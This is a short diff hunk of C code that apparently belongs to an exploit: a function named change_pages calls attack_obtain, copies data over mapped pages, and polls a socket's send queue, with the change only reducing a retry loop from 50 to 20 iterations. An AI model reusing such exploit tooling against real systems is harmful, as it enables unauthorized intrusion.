@@ -101,7 +101,7 @@ static void change_pages(void)
 	attack_obtain();
 	memcpy(map_pages(), data.bytes, data.len);
 	attack_do("wake", write(waker, "", 1));
-	for (int i = 0; i < 50 && left; i++) {
+	for (int i = 0; i < 20 && left; i++) {
 		poll(NULL, 0, 100);
 		ioctl(sock, SIOCOUTQ, &left);
 	}
